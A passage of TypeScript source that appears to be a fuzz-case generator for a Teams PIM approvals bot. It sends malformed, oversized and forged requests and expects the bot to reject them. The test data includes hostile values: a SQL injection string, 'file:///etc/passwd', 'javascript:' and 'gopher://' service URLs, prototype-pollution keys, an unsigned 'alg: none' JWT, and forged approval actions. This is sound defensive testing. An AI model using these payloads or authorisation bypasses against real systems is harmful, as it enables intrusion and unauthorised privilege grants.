const GOOD_CONTENT_TYPES: readonly string[] = ['application/json', 'application/json; charset=utf-8', 'Application/JSON', 'application/json;charset=UTF-8'];

/** A body over the endpoint's size limit: a big string in a free-text field of an otherwise valid body. */
function oversized(rng: Rng, value: Json, path: Path, limit: number, what: string[]): Buffer {
  const size = rng.range(limit + 1, limit * 4);
  setAt(value, path, longText(rng, size));
  what.push(`${path.join('.')} of ${size} characters: the body is over the ${limit / 1024} KiB limit`);
  return serialise(value);
}

// --- /api/pim/evaluate ---------------------------------------------------------------------------

const PIM_BODY_LIMIT = 64 * 1024;

function evaluateCase(rng: Rng, world: FuzzWorld, what: string[]): Omit<FuzzCase, 'seed' | 'index' | 'endpoint' | 'what'> {
  const family = rng.weighted<string>([
    [60, 'shape'],
    [8, 'invalid-json'],
    [6, 'content-type'],
    [5, 'duplicate-key'],
    [3, 'deep-nesting'],
    [3, 'oversize'],
    [10, 'bad-auth'],
  ]);
  const contentType = rng.pick(GOOD_CONTENT_TYPES);
  const expect: Expect = { kind: 'http4xx' };
  const pimToken: Auth = { kind: 'pimToken' };
  switch (family) {
    case 'shape': {
      const b = brokenPimValue(rng, world, what);
      return { family: b.family, body: serialise(b.value), contentType, auth: pimToken, expect };
    }
    case 'invalid-json': {
      const shape = rng.pick<Shape>(['entraRole', 'group', 'azureResource']);
      const body = pimBase(rng, world, shape);
      decoratePim(rng, body, shape, what);
      return { family, body: invalidJson(rng, serialise(body).toString('utf8'), what), contentType, auth: pimToken, expect };
    }
    case 'content-type': {
      const shape = rng.pick<Shape>(['entraRole', 'group', 'azureResource']);
      const body = pimBase(rng, world, shape);
      const ct = rng.pick(BAD_CONTENT_TYPES);
      what.push(`${shape} request, valid, sent as ${ct === null ? 'no Content-Type' : JSON.stringify(ct)}`);
      return { family, body: serialise(body), contentType: ct, auth: pimToken, expect };
    }
    case 'duplicate-key': {
      // The last of duplicate keys wins in JSON.parse: the bad value goes last.
      const shape = rng.pick<Shape>(['entraRole', 'group']);
      const body = pimBase(rng, world, shape);
      decoratePim(rng, body, shape, what);
      const key = rng.pick(shape === 'group' ? ['id', 'principalId', 'groupId', 'action'] : ['id', 'principalId', 'roleDefinitionId', 'action']);
      // `action` is any short string, the others are GUIDs: only a bad value of the field's own kind breaks it.
      const bad = rng.pick(
        key === 'action' ? ['42', 'null', '{}', '[]', 'true'] : ['42', 'null', '"not-a-guid"', '{}', '[]', `"${String(body[key] ?? 'x')}\\u200b"`],
      );
      const text = serialise(body).toString('utf8');
      what.push(`${shape} request with '${key}' twice, the second ${bad}`);
      return { family, body: Buffer.from(`${text.slice(0, -1)},"${key}":${bad}}`, 'utf8'), contentType, auth: pimToken, expect };
    }
    case 'deep-nesting': {
      const depth = rng.range(1000, 30_000);
      const text = rng.chance(0.5) ? nestedText(rng, depth) : `{"id":${nestedText(rng, depth)}}`;
      what.push(`nesting ${depth} levels deep`);
      return { family, body: Buffer.from(text, 'utf8'), contentType, auth: pimToken, expect };
    }
    case 'oversize': {
      const shape = rng.pick<Shape>(['entraRole', 'group']);
      const body = pimBase(rng, world, shape);
      return {
        family,
        body: oversized(rng, body, rng.pick([['justification'], ['x-padding'], ['ticketInfo', 'ticketNumber']]), PIM_BODY_LIMIT, what),
        contentType,
        auth: pimToken,
        expect,
      };
    }
    default: {
      // Broken authentication on a body that would otherwise be broken too (so even a slip in the token check stores nothing).
      const b = brokenPimValue(rng, world, what);
      const auth = rng.pick<Auth>([
        { kind: 'rawAuthorization', value: undefined },
        { kind: 'rawAuthorization', value: 'Bearer' },
        { kind: 'rawAuthorization', value: 'Bearer not.a.jwt' },
        { kind: 'rawAuthorization', value: 'Basic dXNlcjpwYXNz' },
        { kind: 'rawAuthorization', value: `Bearer ${'A'.repeat(rng.range(100, 6000))}` },
        { kind: 'rawAuthorization', value: 'Bearer eyJhbGciOiJub25lIn0.eyJhdWQiOiJ4In0.' },
        { kind: 'badToken', token: 'foreign' },
        { kind: 'badToken', token: 'expired' },
        { kind: 'badToken', token: 'audience' },
        { kind: 'badToken', token: 'caller' },
      ]);
      what.push(
        `auth: ${auth.kind === 'badToken' ? `${auth.token} token` : JSON.stringify(auth.kind === 'rawAuthorization' ? auth.value?.slice(0, 40) : auth.kind)}`,
      );
      return { family: 'bad-auth', body: serialise(b.value), contentType, auth, expect };
    }
  }
}

/** The byte splice a GUID 'with bytes that are not UTF-8' asks for. */
const INVALID_UTF8_MARKER = '\u0000INVALID_UTF8\u0000';
function utf8Splices(): Map<string, Buffer> {
  return new Map([[INVALID_UTF8_MARKER, Buffer.from([0xc0, 0xaf, 0xff])]]);
}

// --- /api/pim/events -----------------------------------------------------------------------------

const OUTCOMES = ['granted', 'denied', 'activated', 'expired', 'cancelled'] as const;

function eventBase(rng: Rng, world: FuzzWorld): Json {
  const shape = rng.pick<Shape>(['entraRole', 'entraRole', 'group', 'azureResource']);
  const request = pimBase(rng, world, shape);
  const now = new Date(Date.UTC(2026, 2, 2, 8, rng.int(60)));
  const e: Json = { eventId: `evt-${rng.hex(16)}`, type: rng.chance(0.5) ? 'escalation' : 'postApproval', occurredAt: now.toISOString(), request };
  if (e.type === 'escalation') {
    if (rng.chance(0.6)) e.reasons = ['Change CHG0042001 is outside its approved window.'];
  } else {
    e.outcome = rng.pick(OUTCOMES);
    if (rng.chance(0.5))
      e.decidedBy = {
        id: world.pending.approvers[0]!.objectId,
        displayName: world.pending.approvers[0]!.displayName,
        userPrincipalName: 'meganb@contoso.example',
      };
    if (rng.chance(0.4)) e.justification = 'Checked with the on-call lead';
    if (rng.chance(0.3)) e.activeUntil = new Date(now.getTime() + 7_200_000).toISOString();
  }
  return e;
}

/** Dates the contract (ISO 8601 with a zone) forbids, including ones that look right at a glance. */
const BAD_DATES: readonly unknown[] = [
  '2026-03-02T08:00:00', // no zone
  '2026-03-02',
  '02/03/2026 08:00',
  'yesterday',
  '',
  'NaN',
  '1767225600',
  1767225600,
  '2026-03-02T08:00:00Z\u200b',
  '\uff12\uff10\uff12\uff16-03-02T08:00:00Z',
  '2026-02-30T08:00:00Z',
  '2026-03-02T25:00:00Z',
  '2026-03-02T08:00:00+25:00', // a zone offset no place has
  '2026-03-02T08:00:00-99:99',
  '2026-03-02T08:00:00+23:60',
  '+275760-09-14T00:00:00Z',
  '2026-03-02T08:00:00Z; DROP TABLE inbound_events',
  null,
  {},
];

interface EventField {
  path: Path;
  breakers: Array<(rng: Rng, e: Json) => string>;
}

const tooLong = (max: number) => (rng: Rng, e: Json, path: Path) => {
  setAt(e, path, longText(rng, rng.range(max + 1, Math.min(max * 5, 40_000))));
  return `${path.join('.')} longer than ${max}`;
};

function eventFields(): EventField[] {
  const retype = (path: Path) => (rng: Rng, e: Json) => {
    const w = wrongType(rng, false);
    setAt(e, path, w.value);
    return `${path.join('.')} = ${w.says}`;
  };
  const drop = (path: Path) => (_rng: Rng, e: Json) => {
    deleteAt(e, path);
    return `${path.join('.')} dropped`;
  };
  const badDate = (path: Path) => (rng: Rng, e: Json) => {
    const v = rng.pick(BAD_DATES);
    setAt(e, path, v);
    return `${path.join('.')} = ${JSON.stringify(v)} (not an ISO 8601 date-time with a zone)`;
  };
  return [
    {
      path: ['eventId'],
      breakers: [
        drop(['eventId']),
        retype(['eventId']),
        (_r, e) => {
          setAt(e, ['eventId'], '');
          return 'eventId empty';
        },
        (r, e) => tooLong(128)(r, e, ['eventId']),
      ],
    },
    {
      path: ['type'],
      breakers: [
        drop(['type']),
        retype(['type']),
        (r, e) => {
          const v = r.pick(['Escalation', 'escalation\u200b', 'post-approval', 'postapproval', 'grant', '', 'escalation ', 'p\u043estApproval']);
          setAt(e, ['type'], v);
          return `type = ${JSON.stringify(v)}`;
        },
      ],
    },
    { path: ['occurredAt'], breakers: [drop(['occurredAt']), badDate(['occurredAt']), (r, e) => tooLong(64)(r, e, ['occurredAt'])] },
    { path: ['request'], breakers: [drop(['request']), retype(['request'])] },
    {
      path: ['outcome'],
      breakers: [
        (r, e) => {
          if (e.type === 'escalation') {
            setAt(e, ['outcome'], r.pick(OUTCOMES));
            return 'an escalation with an outcome';
          }
          if (r.chance(0.5)) {
            deleteAt(e, ['outcome']);
            return 'a postApproval without outcome';
          }
          const v = r.pick(['approved', 'GRANTED', 'Granted', 'gr\u0430nted', 'granted\u0000', '', 'revoked']);
          setAt(e, ['outcome'], v);
          return `outcome = ${JSON.stringify(v)}`;
        },
      ],
    },
    {
      path: ['decidedBy'],
      breakers: [
        retype(['decidedBy']),
        (r, e) => {
          setAt(e, ['decidedBy'], { id: r.pick(['', 'x'.repeat(129)]) });
          return 'decidedBy.id empty or over 128';
        },
        (_r, e) => {
          setAt(e, ['decidedBy'], { displayName: 'Megan Bowen' });
          return 'decidedBy without id';
        },
        (r, e) => {
          setAt(e, ['decidedBy'], { id: 'u1', [r.pick(PROTO_KEYS.concat(['role', 'isAdmin']))]: 'x' });
          return 'decidedBy with an unknown key';
        },
        (r, e) => {
          setAt(e, ['decidedBy'], { id: 'u1', displayName: r.chance(0.5) ? '' : 'x'.repeat(257) });
          return 'decidedBy.displayName empty or over 256';
        },
      ],
    },
    { path: ['justification'], breakers: [retype(['justification']), (r, e) => tooLong(4000)(r, e, ['justification'])] },
    {
      path: ['reasons'],
      breakers: [
        (r, e) => {
          const v = r.pick<unknown>([
            'reason',
            42,
            null,
            {},
            { 0: 'reason' },
            true,
            [[]],
            [1, 2, 3],
            [null],
            rawSplice(nestedText(r, r.range(500, 5000), true)),
          ]);
          setAt(e, ['reasons'], v);
          return 'reasons = not a list of strings';
        },
        (r, e) => {
          setAt(
            e,
            ['reasons'],
            Array.from({ length: r.range(21, 200) }, (_, i) => `reason ${i}`),
          );
          return 'more than 20 reasons';
        },
        (r, e) => {
          setAt(e, ['reasons'], ['fine', r.pick<unknown>(['', 42, null, {}, [], 'x'.repeat(1001)])]);
          return 'a reason that is empty, too long or not a string';
        },
      ],
    },
    { path: ['activeUntil'], breakers: [badDate(['activeUntil'])] },
  ];
}
const EVENT_FIELDS = eventFields();
const EVENT_KEYS = new Set(['eventId', 'type', 'occurredAt', 'request', 'outcome', 'decidedBy', 'justification', 'reasons', 'activeUntil']);

/** Decorations of an event: hostile text where the schema allows free text, and in the nested request. */
function decorateEvent(rng: Rng, e: Json, what: string[]): void {
  const n = rng.range(0, 3);
  for (let i = 0; i < n; i++) {
    switch (rng.int(5)) {
      case 0:
        e.eventId = `evt-${hostileTextWithin(rng, 100)}`.slice(0, 128);
        if (/[\ud800-\udbff]$/.test(e.eventId as string)) e.eventId = `${(e.eventId as string).slice(0, -1)}x`;
        what.push('eventId = hostile text');
        break;
      case 1:
        if (e.type === 'escalation') {
          e.reasons = Array.from({ length: rng.range(1, 5) }, () => hostileTextWithin(rng, 1000));
          what.push('reasons = hostile text');
        }
        break;
      case 2:
        if (e.type === 'postApproval') {
          e.justification = hostileTextWithin(rng, 4000);
          what.push('justification = hostile text');
        }
        break;
      case 3:
        if (e.type === 'postApproval') {
          e.decidedBy = {
            id: rng.chance(0.5) ? rng.uuid() : hostileTextWithin(rng, 128),
            displayName: hostileTextWithin(rng, 256),
            userPrincipalName: hostileTextWithin(rng, 256),
          };
          what.push('decidedBy = hostile names');
        }
        break;
      default: {
        const request = e.request as Json;
        const shape: Shape = 'properties' in request ? 'azureResource' : request['@odata.type'] === GROUP_TYPE ? 'group' : 'entraRole';
        decoratePim(rng, request, shape, what);
      }
    }
  }
}

function eventsCase(rng: Rng, world: FuzzWorld, what: string[]): Omit<FuzzCase, 'seed' | 'index' | 'endpoint' | 'what'> {
  const family = rng.weighted<string>([
    [40, 'event-field'],
    [15, 'request'],
    [6, 'unknown-key'],
    [4, 'not-an-object'],
    [8, 'invalid-json'],
    [5, 'content-type'],
    [3, 'deep-nesting'],
    [3, 'oversize'],
    [12, 'bad-auth'],
  ]);
  const contentType = rng.pick(GOOD_CONTENT_TYPES);
  const expect: Expect = { kind: 'http4xx' };
  const hmac: Auth = { kind: 'hmac' };
  const e = eventBase(rng, world);
  what.push(`${String(e.type)} event`);
  decorateEvent(rng, e, what);
  switch (family) {
    case 'event-field': {
      const f = rng.pick(EVENT_FIELDS);
      what.push(rng.pick(f.breakers)(rng, e));
      return { family, body: serialise(e), contentType, auth: hmac, expect };
    }
    case 'request': {
      const b = brokenPimValue(rng, world, what);
      e.request = b.value;
      return { family: `request-${b.family}`, body: serialise(e), contentType, auth: hmac, expect };
    }
    case 'unknown-key': {
      const key = rng.pick([...PROTO_KEYS, 'evaluationOutcome', 'status', 'Type', 'eventid', 'request ', hostileTextWithin(rng, 30)]);
      if (EVENT_KEYS.has(key)) throw new Error(`fuzz generator: '${key}' is a real event key`);
      define(e, key, rng.pick<unknown>([{ polluted: 'yes' }, 'x', 1, null, { prototype: { polluted: 'yes' } }]));
      what.push(`+ unknown top-level key ${JSON.stringify(key)} (events are strict)`);
      return { family, body: serialise(e), contentType, auth: hmac, expect };
    }
    case 'not-an-object': {
      const v = rng.pick<unknown>([[e], 'escalation', 42, null, true, [], JSON.stringify(e)]);
      what.push('the body is not a JSON object');
      return { family, body: serialise(v), contentType, auth: hmac, expect };
    }
    case 'invalid-json':
      return { family, body: invalidJson(rng, serialise(e).toString('utf8'), what), contentType, auth: hmac, expect };
    case 'content-type': {
      const ct = rng.pick(BAD_CONTENT_TYPES);
      what.push(`sent as ${ct === null ? 'no Content-Type' : JSON.stringify(ct)}`);
      return { family, body: serialise(e), contentType: ct, auth: hmac, expect };
    }
    case 'deep-nesting': {
      const depth = rng.range(1000, 30_000);
      const at = rng.pick(['request', 'reasons', 'decidedBy', 'whole']);
      what.push(`nesting ${depth} levels deep in ${at}`);
      if (at === 'whole') return { family, body: Buffer.from(nestedText(rng, depth), 'utf8'), contentType, auth: hmac, expect };
      e[at] = rawSplice(nestedText(rng, depth));
      return { family, body: serialise(e), contentType, auth: hmac, expect };
    }
    case 'oversize':
      return {
        family,
        body: oversized(rng, e, rng.pick([['request', 'justification'], ['justification'], ['padding']]), PIM_BODY_LIMIT, what),
        contentType,
        auth: hmac,
        expect,
      };
    default: {
      // Broken signatures over bodies that are themselves broken.
      const f = rng.pick(EVENT_FIELDS);
      what.push(rng.pick(f.breakers)(rng, e));
      const variant = rng.pick<BadHmac>([
        'stale',
        'future',
        'wrongSecret',
        'otherBytes',
        'noSignature',
        'noTimestamp',
        'noHeaders',
        'badSignatureFormat',
        'badTimestampFormat',
        'bearerInstead',
      ]);
      what.push(`auth: ${variant}`);
      return { family: 'bad-auth', body: serialise(e), contentType, auth: { kind: 'badHmac', variant }, expect };
    }
  }
}

// --- /api/messages -------------------------------------------------------------------------------

const MESSAGES_BODY_LIMIT = 256 * 1024;

function activityFrom(world: FuzzWorld, user: FuzzUser | null, personal: boolean, id: string): Json {
  return {
    type: 'invoke',
    name: 'adaptiveCard/action',
    id,
    channelId: 'msteams',
    // Invokes are answered in the HTTP response; anything the bot sends elsewhere goes to a closed port, never to the test's connector.
    serviceUrl: 'http://127.0.0.1:9/',
    from: user ? { id: user.teamsUserId, name: user.displayName, aadObjectId: user.objectId } : { id: '29:anonymous', name: 'Someone' },
    recipient: { id: '28:pim-approvals-bot', name: 'PIM Approvals' },
    conversation: personal
      ? { id: `a:${user?.teamsUserId ?? 'x'}-personal`, conversationType: 'personal', tenantId: world.tenantId }
      : { id: world.channelId, isGroup: true, conversationType: 'channel', tenantId: world.tenantId },
    channelData: { tenant: { id: world.tenantId } },
  };
}

function invoke(world: FuzzWorld, rng: Rng, user: FuzzUser | null, verb: unknown, data: unknown, personal = false): Json {
  const a = activityFrom(world, user, personal, `invoke-${rng.hex(12)}`);
  a.value = { action: { type: 'Action.Execute', verb, data }, trigger: 'manual' };
  return a;
}

/** A justification an approver could type, possibly full of hostile text (at least 10 visible characters). */
function approverText(rng: Rng): string {
  return rng.chance(0.5)
    ? 'Checked the ticket with the requester by phone'
    : `Checked: ${hostileTextWithin(rng, 1900)}`.slice(0, 2000).replace(/[\ud800-\udbff]$/, 'x');
}

/**
 * Forged card actions: data the bot never put on a card, or real ids used by someone who may not
 * act on them. Returns the activity and what the bot must answer.
 */
function forgedAction(rng: Rng, world: FuzzWorld, what: string[]): { activity: Json; expect: Expect; family: string } {
  const { pending, decided, selfPending, chat } = world;
  const anyUser = () => rng.pick([...pending.approvers, ...pending.outsiders, pending.requester]);
  const kind = rng.weighted<string>([
    [10, 'bad-request-id'],
    [4, 'bad-version'],
    [3, 'bad-justification'],
    [4, 'unknown-verb'],
    [4, 'bad-action-shape'],
    [2, 'no-actor'],
    [6, 'non-approver'],
    [3, 'self-approval'],
    [3, 'short-justification'],
    [2, 'already-decided'],
    [6, 'foreign-draft'],
    [4, 'foreign-chat-request'],
    [2, 'foreign-approval-again'],
    [3, 'bad-chat-inputs'],
    [3, 'bad-digest'],
    [3, 'audit-forged'],
  ]);
  const invoke4xx: Expect = { kind: 'invoke4xx' };
  const verb = () => rng.pick(['pim.approve', 'pim.deny', 'pim.refresh']);
  switch (kind) {
    case 'bad-request-id': {
      const b = rng.chance(0.3)
        ? { value: rng.uuid(), says: 'an unknown request id' }
        : rng.chance(0.2)
          ? { value: undefined, says: 'no request id' }
          : badGuid(rng, pending.id);
      const v = verb();
      what.push(`${v} with requestId = ${b.says}`);
      const data: Json = { version: 1, decisionJustification: approverText(rng) };
      if (b.value !== undefined) data.requestId = b.value;
      return { activity: invoke(world, rng, anyUser(), v, data), expect: invoke4xx, family: kind };
    }
    case 'bad-version': {
      const version = rng.pick<unknown>(['abc', 'NaN', -1, 1.5, {}, [1, 2], 'Infinity', '1e400', '\u0661']);
      what.push(`pim.approve of a real request with version ${JSON.stringify(version)}`);
      return {
        activity: invoke(world, rng, rng.pick(pending.approvers), rng.pick(['pim.approve', 'pim.deny']), {
          requestId: pending.id,
          version,
          decisionJustification: approverText(rng),
        }),
        expect: invoke4xx,
        family: kind,
      };
    }
    case 'bad-justification': {
      const j = rng.chance(0.6) ? longText(rng, rng.range(2001, 200_000)) : wrongType(rng, true).value;
      what.push(`pim.approve of a real request with a justification that is ${typeof j === 'string' ? `${j.length} characters` : 'not a string'}`);
      return {
        activity: invoke(world, rng, rng.pick(pending.approvers), rng.pick(['pim.approve', 'pim.deny']), {
          requestId: pending.id,
          version: 1,
          decisionJustification: j,
        }),
        expect: invoke4xx,
        family: kind,
      };
    }
    case 'unknown-verb': {
      const v = rng.pick([
        'pim.approveAll',
        'pim.Approve',
        'PIM.APPROVE',
        'pim.approve\u200b',
        'pim.approve ',
        'pim.delete',
        'pim.escalate',
        '__proto__',
        'constructor',
        'toString',
        'hasOwnProperty',
        'chat.bogus',
        'chat.',
        'digest.bogus',
        'audit.bogus',
        'audit.',
        '',
        'pim.\u0430pprove',
        `pim.${'x'.repeat(40)}`,
      ]);
      what.push(`verb ${JSON.stringify(v)} on a real request`);
      return {
        activity: invoke(world, rng, rng.pick(pending.approvers), v, { requestId: pending.id, version: 1, decisionJustification: approverText(rng) }),
        expect: invoke4xx,
        family: kind,
      };
    }
    case 'bad-action-shape': {
      const a = invoke(world, rng, rng.pick(pending.approvers), 'pim.approve', { requestId: pending.id, version: 1, decisionJustification: approverText(rng) });
      const value = a.value as Json;
      const action = value.action as Json;
      const v = rng.int(7);
      if (v === 0) {
        action.type = rng.pick(['Action.Submit', 'action.execute', 'Action.OpenUrl', '', 42]);
        what.push(`action.type = ${JSON.stringify(action.type)}`);
      } else if (v === 1) {
        delete value.action;
        what.push('no action');
      } else if (v === 2) {
        a.value = rng.pick<unknown>([null, 'pim.approve', 42, [], [value]]);
        what.push('value is not an object');
      } else if (v === 3) {
        action.verb = rng.pick<unknown>([42, null, ['pim.approve'], { toString: 'pim.approve' }, 'pim.approve'.padEnd(65, 'x')]);
        what.push('verb not a string of at most 64 characters');
      } else if (v === 4) {
        action.data = rng.pick<unknown>([null, 'requestId', 42, [pending.id]]);
        what.push('data is not an object');
      } else if (v === 5) {
        delete a.value;
        what.push('no value at all');
      } else {
        action.data = { requestId: pending.id, [rng.pick(PROTO_KEYS)]: { polluted: 'yes' }, version: 'x' };
        what.push('data with a prototype key and a bad version');
      }
      return { activity: a, expect: invoke4xx, family: kind };
    }
    case 'no-actor': {
      what.push('pim.approve of a real request with no Entra object id on the activity');
      return {
        activity: invoke(world, rng, null, rng.pick(['pim.approve', 'pim.deny']), {
          requestId: pending.id,
          version: 1,
          decisionJustification: approverText(rng),
        }),
        expect: invoke4xx,
        family: kind,
      };
    }
    case 'non-approver': {
      const who = rng.chance(0.8)
        ? rng.pick(pending.outsiders)
        : { objectId: rng.uuid(), teamsUserId: `29:${rng.hex(10)}`, displayName: hostileTextWithin(rng, 60) };
      what.push(`${who.displayName.slice(0, 20)} (not an approver) decides a real request`);
      return {
        activity: invoke(world, rng, who, rng.pick(['pim.approve', 'pim.deny']), {
          requestId: pending.id,
          version: 1,
          decisionJustification: approverText(rng),
        }),
        expect: { kind: 'invokeRefusal', says: `Only approvers of ${pending.roleName}`, noDecision: true },
        family: kind,
      };
    }
    case 'self-approval': {
      const r = rng.chance(0.5) ? { id: selfPending.id, who: selfPending.requester } : { id: pending.id, who: pending.requester };
      what.push('the requester decides their own request');
      return {
        activity: invoke(world, rng, r.who, rng.pick(['pim.approve', 'pim.deny']), { requestId: r.id, version: 1, decisionJustification: approverText(rng) }),
        expect: { kind: 'invokeRefusal', says: 'cannot approve or deny your own request', noDecision: true },
        family: kind,
      };
    }
    case 'short-justification': {
      const j = rng.pick<string | undefined>([
        undefined,
        '',
        '   ',
        'ok',
        'fine',
        '\t\n\r ',
        '\u00a0'.repeat(12),
        '\u200b'.repeat(20),
        '\u200b\u200c\u200d\u2060\ufeff'.repeat(4),
        '\u202e\u202c'.repeat(8),
        '\u0000'.repeat(12),
        'ok\u200b\u200b\u200b\u200b\u200b\u200b\u200b\u200b\u200b',
      ]);
      what.push(`an approver decides a real request with the justification ${JSON.stringify(j)}`);
      const data: Json = { requestId: pending.id, version: 1 };
      if (j !== undefined) data.decisionJustification = j;
      return {
        activity: invoke(world, rng, rng.pick(pending.approvers), rng.pick(['pim.approve', 'pim.deny']), data),
        expect: { kind: 'invokeRefusal', says: 'Add a justification of at least' },
        family: kind,
      };
    }
    case 'already-decided': {
      what.push('another approver decides a request that is already approved');
      return {
        activity: invoke(world, rng, decided.otherApprover, rng.pick(['pim.approve', 'pim.deny']), {
          requestId: decided.id,
          version: 1,
          decisionJustification: approverText(rng),
        }),
        expect: { kind: 'invokeRefusal', says: 'already approved this request', noDecision: true },
        family: kind,
      };
    }
    case 'foreign-draft': {
      const v = rng.pick(['chat.submit', 'chat.choose', 'chat.discard', 'chat.useMaximum']);
      const useReal = rng.chance(0.7);
      const draftId = useReal ? chat.draftId : rng.chance(0.5) ? rng.uuid() : badGuid(rng, chat.draftId).value;
      what.push(`${v} on ${useReal ? "another user's draft" : 'a draft that does not exist'}`);
      return {
        activity: invoke(world, rng, chat.intruder, v, { draftId, target: 'entraRole|x|/', durationMinutes: '60', justification: approverText(rng) }, true),
        expect: invoke4xx,
        family: kind,
      };
    }
    case 'foreign-chat-request': {
      const v = rng.pick(['chat.cancelRequest', 'chat.again', 'chat.remind']);
      const useReal = rng.chance(0.7);
      what.push(`${v} on ${useReal ? "another user's request" : 'an unknown request'}`);
      return {
        activity: invoke(world, rng, chat.intruder, v, { chatRequestId: useReal ? chat.chatRequestId : rng.uuid() }, true),
        expect: invoke4xx,
        family: kind,
      };
    }
    case 'foreign-approval-again': {
      what.push("chat.requestAgain on another user's approval request");
      return {
        activity: invoke(world, rng, chat.intruder, 'chat.requestAgain', { requestId: rng.chance(0.5) ? pending.id : decided.id }, true),
        expect: invoke4xx,
        family: kind,
      };
    }
    case 'bad-chat-inputs': {
      const data: Json = { draftId: chat.draftId };
      const v = rng.int(6);
      if (v === 0) {
        data.target = longText(rng, rng.range(601, 5000));
        what.push('chat target over 600 characters');
      } else if (v === 1) {
        data.durationMinutes = rng.pick<unknown>(['123456789', {}, [], true, '9'.repeat(50)]);
        what.push('chat durationMinutes of the wrong kind');
      } else if (v === 2) {
        data.ticketNumber = longText(rng, rng.range(81, 3000));
        what.push('chat ticketNumber over 80 characters');
      } else if (v === 3) {
        data.justification = longText(rng, rng.range(2001, 100_000));
        what.push('chat justification over 2000 characters');
      } else if (v === 4) {
        data.draftId = badGuid(rng, chat.draftId).value;
        what.push('chat draftId not a GUID');
      } else {
        data.chatRequestId = rng.pick<unknown>([42, 'x', {}, badGuid(rng, chat.chatRequestId).value]);
        what.push('chat chatRequestId not a GUID');
      }
      return {
        activity: invoke(world, rng, rng.chance(0.5) ? chat.owner : chat.intruder, rng.pick(['chat.submit', 'chat.choose', 'chat.cancelRequest']), data, true),
        expect: invoke4xx,
        family: kind,
      };
    }
    case 'bad-digest': {
      const v = rng.pick(['digest.extend', 'digest.release']);
      const data = rng.pick<unknown>([
        {},
        { kind: 'azureResource', roleDefinitionId: world.roleDefinitionId, scope: '/' },
        { kind: 'entraRole', roleDefinitionId: '', scope: '/' },
        { kind: 'entraRole', roleDefinitionId: world.roleDefinitionId, scope: 'x'.repeat(301) },
        { kind: 'entraRole', roleDefinitionId: world.roleDefinitionId, scope: '/', assignment: 'permanent' },
        { kind: 'group', roleDefinitionId: 'x'.repeat(201), scope: rng.uuid() },
        { kind: ['entraRole'], roleDefinitionId: world.roleDefinitionId, scope: '/' },
        [],
        'entraRole',
      ]);
      what.push(`${v} with data ${JSON.stringify(data).slice(0, 60)}`);
      return { activity: invoke(world, rng, anyUser(), v, data, true), expect: invoke4xx, family: kind };
    }
    default: {
      const v = rng.pick(['audit.looksRight', 'audit.flag']);
      const c = rng.int(4);
      if (c === 0) {
        what.push(`${v} with a request id that is not a GUID`);
        return { activity: invoke(world, rng, anyUser(), v, { requestId: badGuid(rng, decided.id).value }), expect: invoke4xx, family: kind };
      }
      if (c === 1) {
        what.push(`${v} of an approval that does not exist`);
        return { activity: invoke(world, rng, anyUser(), v, { requestId: rng.uuid() }), expect: invoke4xx, family: kind };
      }
      if (c === 2) {
        what.push(`${v} of a request that is still pending`);
        return {
          activity: invoke(world, rng, rng.pick(pending.outsiders), v, { requestId: pending.id }),
          expect: { kind: 'invokeRefusal', says: 'not approved' },
          family: kind,
        };
      }
      const self = rng.chance(0.5);
      what.push(`${v} of an approval by its ${self ? 'approver' : 'requester'}`);
      return {
        activity: invoke(world, rng, self ? decided.approver : decided.requester, v, { requestId: decided.id }),
        expect: { kind: 'invokeRefusal', says: 'cannot review it' },
        family: kind,
      };
    }
  }
}

/** A Teams activity whose envelope is not one (type, ids, service URL missing or of the wrong kind). */
function brokenEnvelope(rng: Rng, world: FuzzWorld, what: string[]): Json | unknown {
  const user = rng.pick([...world.pending.approvers, ...world.pending.outsiders]);
  const base = rng.pick(['invoke', 'message', 'conversationUpdate', 'installationUpdate']);
  const a = activityFrom(world, user, base !== 'invoke', `act-${rng.hex(10)}`);
  if (base === 'invoke') a.value = { action: { type: 'Action.Execute', verb: 'pim.refresh', data: { requestId: world.pending.id } } };
  else {
    a.type = base;
    delete a.name;
    if (base === 'message') a.text = hostileText(rng);
    if (base === 'conversationUpdate') a.membersAdded = [{ id: user.teamsUserId, aadObjectId: user.objectId }];
    if (base === 'installationUpdate') a.action = 'add';
  }
  what.push(`${base} activity`);
  const v = rng.weighted<string>([
    [4, 'type'],
    [3, 'from'],
    [3, 'conversation'],
    [2, 'serviceUrl'],
    [1, 'channelId'],
    [2, 'name'],
    [2, 'not-an-object'],
    [1, 'empty'],
  ]);
  switch (v) {
    case 'type': {
      const t = rng.pick<unknown>([
        undefined,
        '',
        42,
        null,
        true,
        [],
        {},
        ['message'],
        { toString: 'message' },
        rawSplice(nestedText(rng, rng.range(100, 5000))),
      ]);
      if (t === undefined) delete a.type;
      else a.type = t;
      what.push(`type ${t === undefined ? 'missing' : 'not a non-empty string'}`);
      return a;
    }
    case 'from': {
      const f = rng.pick<unknown>([
        undefined,
        null,
        'user-id-0',
        42,
        [],
        {},
        { id: 42 },
        { id: user.teamsUserId, aadObjectId: 42 },
        { id: user.teamsUserId, aadObjectId: ['x'] },
        { id: user.teamsUserId, aadObjectId: { toLowerCase: 'x' } },
      ]);
      if (f === undefined) delete a.from;
      else a.from = f;
      what.push(`from = ${f === undefined ? 'missing' : JSON.stringify(f).slice(0, 50)}`);
      return a;
    }
    case 'conversation': {
      const c = rng.pick<unknown>([undefined, null, 'a:1', 42, [], {}, { id: 42 }, { id: '' }, { id: ['x'] }]);
      if (c === undefined) delete a.conversation;
      else a.conversation = c;
      what.push(`conversation = ${c === undefined ? 'missing' : JSON.stringify(c)}`);
      return a;
    }
    case 'serviceUrl': {
      const s = rng.pick<unknown>([undefined, null, 42, '', [], {}, 'not a url', 'file:///etc/passwd', 'javascript:alert(1)', 'gopher://127.0.0.1:25/']);
      if (s === undefined) delete a.serviceUrl;
      else a.serviceUrl = s;
      what.push(`serviceUrl = ${s === undefined ? 'missing' : JSON.stringify(s)}`);
      return a;
    }
    case 'channelId': {
      const c = rng.pick<unknown>([undefined, null, 42, '', [], {}]);
      if (c === undefined) delete a.channelId;
      else a.channelId = c;
      what.push(`channelId = ${c === undefined ? 'missing' : JSON.stringify(c)}`);
      return a;
    }
    case 'name': {
      // An invoke the bot has no handler for.
      a.type = 'invoke';
      a.name = rng.pick<unknown>([
        'composeExtension/query',
        'task/fetch',
        'config/fetch',
        'adaptiveCard/action ',
        'AdaptiveCard/Action',
        'signin/failure',
        'actionableMessage/executeAction',
        '',
        42,
        null,
        `x/${'y'.repeat(300)}`,
      ]);
      what.push(`an invoke named ${JSON.stringify(a.name).slice(0, 40)}`);
      return a;
    }
    case 'not-an-object': {
